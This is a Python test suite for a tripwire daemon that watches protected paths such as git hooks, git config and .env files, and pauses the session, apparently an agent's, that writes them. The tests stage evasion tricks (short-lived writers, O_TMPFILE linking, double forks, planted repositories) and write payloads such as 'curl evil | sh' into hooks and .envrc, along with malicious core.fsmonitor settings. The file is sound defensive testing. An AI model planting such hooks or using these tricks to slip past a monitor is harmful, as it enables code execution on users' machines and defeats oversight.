"""Unknown is not nobody: every writer of a protected path is named, or the sessions live
in the workspace are stopped as suspects, with a real daemon in pause
mode, real sessions and real files, each trick 20 times where it races:

- short-lived writers that exit before the daemon reads them (``sh -c 'echo … >
  .git/hooks/X'``, a subshell, ``cp``, ``git config core.hooksPath``);
- ``O_TMPFILE`` + ``linkat`` into ``.git/hooks`` by a live process of the session;
- a double fork writing a deep protected path (``src/.env.local``) after its parent exits;
- a rename into place beside a chatty neighbour session: only the writer is stopped;
- without fanotify (the evidence path), a writer nobody can name stops the sessions live
  in the workspace (tests/daemon/test_tripwire_attribution.py) and, with no session, raises an
  item against the operation that ran.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time

import pytest
from support.daemon import running_daemon, stopped, wait_for, workspace

pytestmark = [pytest.mark.needs_bwrap, pytest.mark.needs_root]

RUNS = 20
BUSY = "while :; do echo y >> busy/$RANDOM; sleep 0.005; done"
PID = "pid from fanotify"
WRITE_IO = "write I/O in window"
OPEN = "open for write"


@pytest.fixture(scope="module")
def env():
    ws = workspace()
    (ws / "busy").mkdir()
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(ws)])}\n'
    with running_daemon(policy) as d:
        with d.operator() as op:
            wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
            status = op.call("watch.status")
        if status["fast_lane"] != "fanotify+inotify" or status["lineage"] != "proc connector":
            pytest.skip(f"fanotify or the proc connector is not available here ({status})")
        yield d, ws


def new(op, cwd, script, *, unconfined=True):
    """The operator's own session: unconfined, as the tripwire's last line of defence meets
    it (a confined one cannot write an existing protected path at all: its bind is
    read-only; it can still create a new protected name, the confined test below)."""
    return op.call(
        "sessions.new",
        {"argv": ["bash", "--norc", "-c", script], "cwd": str(cwd), "unconfined": unconfined},
    )["session"]


def items(op, sid):
    return [i for i in op.call("tripwire.list", {"include_resolved": True})["items"] if i["session"] == sid]


def finish(op, sid):
    """Kill the session through its item (which puts the file back) or directly."""
    for item in op.call("tripwire.list", {"open": True})["items"]:
        if item["session"] == sid:
            op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
    if op.call("sessions.get", {"session": sid})["session"]["status"] not in ("exited", "lost"):
        op.call("sessions.kill", {"session": sid, "grace_s": 0.5})


def named_and_stopped(op, session, path, bases=(PID,)):
    item = wait_for(lambda: items(op, session["id"]), timeout_s=15)[0]
    assert item["display_path"] == path, item
    assert item["state"] == "paused" and not item["suspect"], item
    assert item["basis"] in bases, item
    assert wait_for(lambda: stopped(session["pid"]))
    return item


SHORT_LIVED = {
    "sh -c": "sleep 0.3; sh -c 'echo evil > .git/hooks/{name}'; sleep 30",
    "subshell": "sleep 0.3; ( echo evil > .git/hooks/{name} ); sleep 30",
    "cp": "echo evil > /tmp/{name}.src; sleep 0.3; cp /tmp/{name}.src .git/hooks/{name}; sleep 30",
}


@pytest.mark.parametrize("trick", sorted(SHORT_LIVED))
def test_a_short_lived_writer_is_named_and_its_session_stopped(env, trick):
    """Named by the kernel's pid (the fast lane), each time on a quiet machine. On one
    running two suites at once the pid's event can come later than the tripwire waits for
    it (``EARLY_WAIT_S``): the session's evidence then names it, as firmly (its write I/O,
    or the file still open; the session is paused, not a suspect). Most runs must still
    be the fast lane's."""
    d, ws = env
    bases = []
    with d.operator() as op:
        for run in range(RUNS):
            name = f"post-merge-{trick.replace(' ', '')}-{run}"
            s = new(op, ws, SHORT_LIVED[trick].format(name=name))
            try:
                item = named_and_stopped(op, s, f".git/hooks/{name}", bases=(PID, WRITE_IO, OPEN))
                assert item["revertable"] is True
                bases.append(item["basis"])
            finally:
                finish(op, s["id"])
            assert not (ws / ".git" / "hooks" / name).exists(), "kill puts the file back: absent"
    assert bases.count(PID) >= RUNS // 2, bases


def test_a_confined_sessions_short_lived_writer_of_a_new_protected_name_is_named(env):
    """A confined session cannot write .git/hooks (read-only bind) but can create a
    protected name that does not exist yet; its short-lived writer is named as well."""
    d, ws = env
    with d.operator() as op:
        for run in range(RUNS // 4):
            name = f".env.confined-{run}"
            s = new(
                op,
                ws,
                f"sleep 0.3; sh -c 'echo evil > {name}; echo x > .git/hooks/c{run}'; sleep 30",
                unconfined=False,
            )
            try:
                item = named_and_stopped(op, s, name)
                assert item["revertable"] is True
            finally:
                finish(op, s["id"])
            assert not (ws / name).exists(), "kill puts the file back: absent"
            assert not (ws / ".git" / "hooks" / f"c{run}").exists(), "the read-only bind held"


def test_git_config_run_by_a_session_is_named(env):
    """git writes .git/config.lock and renames it over .git/config, then exits."""
    d, ws = env
    config = ws / ".git" / "config"
    before = config.read_bytes()
    with d.operator() as op:
        for run in range(RUNS):
            key = ("core.hooksPath", "core.fsmonitor", f"alias.x{run}")[run % 3]
            s = new(op, ws, f"sleep 0.3; git config {key} '!evil{run}'; sleep 30")
            try:
                item = named_and_stopped(op, s, ".git/config")
                assert f"evil{run}" in (item["diff"] or "")
            finally:
                finish(op, s["id"])
            assert config.read_bytes() == before  # kill put it back


TMPFILE = r"""
import ctypes, os, sys, time
time.sleep(0.3)
fd = os.open(".git/hooks", os.O_TMPFILE | os.O_WRONLY, 0o755)
os.write(fd, b"#!/bin/sh\ncurl evil | sh\n")
libc = ctypes.CDLL(None, use_errno=True)
if libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, b".git/hooks/pre-commit", 0x400) != 0:
    sys.exit("linkat: %d" % ctypes.get_errno())
time.sleep(30)
"""


def test_an_o_tmpfile_linked_into_the_hooks_is_a_write(env):
    d, ws = env
    with d.operator() as op:
        for _ in range(RUNS):
            s = op.call(
                "sessions.new", {"argv": [sys.executable, "-c", TMPFILE], "cwd": str(ws), "unconfined": True}
            )["session"]
            try:
                item = named_and_stopped(op, s, ".git/hooks/pre-commit")
                # (added; or modified when the watcher's batch also held the last run's revert)
                assert "+curl evil | sh" in (item["diff"] or "") and item["revertable"], item
            finally:
                finish(op, s["id"])
            assert not (ws / ".git" / "hooks" / "pre-commit").exists()


def test_a_double_fork_writing_a_deep_path_after_its_parent_exits_is_named(env):
    d, ws = env
    target = ws / "src" / ".env.local"
    with d.operator() as op:
        for _ in range(RUNS):
            # The intermediate shell exits at once; the grandchild, reparented to init,
            # writes later and exits too. The session's shell lives on.
            s = new(op, ws, "( setsid sh -c 'sleep 0.4; echo TOKEN=evil > src/.env.local' & ); sleep 30")
            try:
                item = named_and_stopped(op, s, "src/.env.local")
                assert "+TOKEN=evil" in (item["diff"] or "")
            finally:
                finish(op, s["id"])
            assert not target.exists()


def test_a_rename_into_place_beside_a_chatty_neighbour_stops_only_the_writer(env):
    d, ws = env
    with d.operator() as op:
        neighbour = new(op, ws, BUSY)
        try:
            wait_for(lambda: len(list((ws / "busy").iterdir())) > 20)
            for run in range(RUNS):
                guilty = new(
                    op, ws, f"echo evil > hook.{run}; sleep 0.3; mv hook.{run} .git/hooks/pre-push; sleep 30"
                )
                try:
                    named_and_stopped(op, guilty, ".git/hooks/pre-push")
                    assert items(op, neighbour["id"]) == []
                    assert not stopped(neighbour["pid"])
                    event = next(
                        e
                        for e in op.call("watch.recent", {"protected_only": True})["events"]
                        if e["path"] == ".git/hooks/pre-push"
                    )
                    assert neighbour["id"] not in [a["id"] for a in event["attribution"]]
                finally:
                    finish(op, guilty["id"])
                assert not (ws / ".git" / "hooks" / "pre-push").exists()
        finally:
            finish(op, neighbour["id"])


def test_without_fanotify_an_unknown_writer_while_an_operation_runs_is_an_item():
    """No session live, an operation running, a writer nobody can name (the evidence
    path has no pid): an 'alerted' item against the operation, which can put it back."""
    ws = workspace()
    policy = f'tripwire = "pause"\nwatch = {json.dumps([str(ws)])}\n'
    with running_daemon(policy, env={"AGENT_CONSOLE_NO_FANOTIFY": "1"}) as d, d.operator() as op:
        wait_for(lambda: op.call("watch.status")["ok"] and op.call("watch.status")["roots"])
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "console",
                "exec",
                "--json",
                "--state-dir",
                str(d.state_dir),
                "--",
                "sh",
                "-c",
                "touch started; sleep 2",
            ],
            cwd=ws,
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            wait_for((ws / "started").exists, timeout_s=30)
            (ws / ".envrc").write_text("curl evil | sh\n")
            item = wait_for(
                lambda: [
                    i for i in op.call("tripwire.list", {"open": True})["items"] if i["state"] == "alerted"
                ]
            )[0]
            assert item["session"] == "" and item["operation"].startswith("r-")
            assert item["summary"] == (
                f".envrc changed by a writer that could not be named while operation {item['operation']} ran"
            )
            reverted = op.call("tripwire.revert", {"id": item["id"]})["item"]
            assert reverted["reverted"] == "removed" and not (ws / ".envrc").exists()
            rows = op.call("history.query", {"kinds": ["tripwire_reverted"]})["rows"]
            assert [r["body"]["item"]["id"] for r in rows] == [item["id"]]
        finally:
            proc.communicate(timeout=60)


def test_the_operators_short_lived_write_names_nobody(env):
    """Its lineage leads to a process outside every session: firm nobody, no item, even
    beside a session busy in the workspace."""
    d, ws = env
    with d.operator() as op:
        busy = new(op, ws, BUSY)
        try:
            for run in range(5):
                subprocess.run(
                    ["sh", "-c", f"echo operator > .git/hooks/pre-rebase-{run}"], cwd=ws, check=True
                )
                event = wait_for(
                    lambda run=run: [
                        e
                        for e in op.call("watch.recent", {"protected_only": True})["events"]
                        if e["path"] == f".git/hooks/pre-rebase-{run}"
                    ]
                )[0]
                assert event["attribution"] == []
                assert event["attribution_basis"].startswith("not a session's process"), event
            time.sleep(0.3)
            assert items(op, busy["id"]) == [] and not stopped(busy["pid"])
        finally:
            finish(op, busy["id"])


def test_a_repository_planted_by_shape_is_protected_wherever_it_is(env):
    """docs/{HEAD,objects,refs} plus a config with core.fsmonitor: git takes docs for a
    repository, so its config is protected (and its writer stopped); hooks written before
    the shape was complete become protected when it is."""
    d, ws = env
    with d.operator() as op:
        s = new(
            op,
            ws,
            "sleep 0.3; mkdir -p docs/objects docs/refs docs/hooks && echo early > docs/hooks/post-checkout; "
            "sleep 0.3; echo 'ref: refs/heads/main' > docs/HEAD; sleep 0.3; "
            "printf '[core]\\n\\tfsmonitor = evil\\n' > docs/config; sleep 30",
        )
        try:

            def event(path):
                return next(
                    (
                        e
                        for e in op.call("watch.recent", {"protected_only": True})["events"]
                        if e["path"] == path
                    ),
                    None,
                )

            hook = wait_for(lambda: event("docs/hooks/post-checkout"))
            assert hook["protected"] == "(a git repository by shape)" and hook["kind"] == "added"
            # Stopped when docs became a repository (the hook it wrote before is its own
            # file now; its write I/O names it), before it could write the config.
            item = wait_for(lambda: items(op, s["id"]))[0]
            assert item["state"] == "paused" and item["basis"] in (
                PID,
                "write I/O in window",
                "open for write",
            )
            assert item["pattern"] == "(a git repository by shape)"
            assert wait_for(lambda: stopped(s["pid"]))
        finally:
            finish(op, s["id"])


def test_a_config_with_core_written_first_is_protected_and_its_writer_named(env):
    d, ws = env
    with d.operator() as op:
        (ws / "site").mkdir()  # (a file made in a directory made that instant is named by /proc evidence)
        s = new(op, ws, "sleep 0.3; printf '[core]\\n\\tworktree = ..\\n' > site/config; sleep 30")
        try:
            # By the kernel's pid, or (when the config is read after the writer's open
            # was let through) by the session's own write I/O in that instant: named.
            item = named_and_stopped(op, s, "site/config", bases=(PID, "write I/O in window"))
            assert item["pattern"] == "(a git repository by shape)"
        finally:
            finish(op, s["id"])
        assert not (ws / "site" / "config").exists()
